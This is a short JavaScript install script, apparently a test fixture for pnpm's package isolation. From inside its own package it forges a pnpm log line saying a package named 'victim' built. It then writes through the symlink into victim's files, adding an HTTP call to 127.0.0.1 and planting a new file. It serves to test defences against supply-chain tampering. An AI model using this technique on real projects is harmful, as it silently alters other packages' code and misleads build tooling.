// In pnpm's layout this package is <project>/node_modules/.pnpm/pnpm-tamper@1.0.0/node_modules/pnpm-tamper:
// four levels up is the project's node_modules, where victim is a link into
// the virtual store. Writing through the link changes victim's own files.
// pnpm's own header is forged first, so that a tool that believes pnpm's
// output thinks victim built.
const fs = require('fs');
const path = require('path');
console.log('.../victim@1.0.0/node_modules/victim postinstall$ node build.js');
const victim = path.join(__dirname, '..', '..', '..', '..', 'victim');
try {
  fs.appendFileSync(path.join(victim, 'index.js'), ";require('http').get('http://127.0.0.1:9/rt17');\n");
  fs.writeFileSync(path.join(victim, 'extra.js'), 'module.exports = "planted";\n');
} catch (e) {
  console.error('pnpm-tamper:', e.message);
}
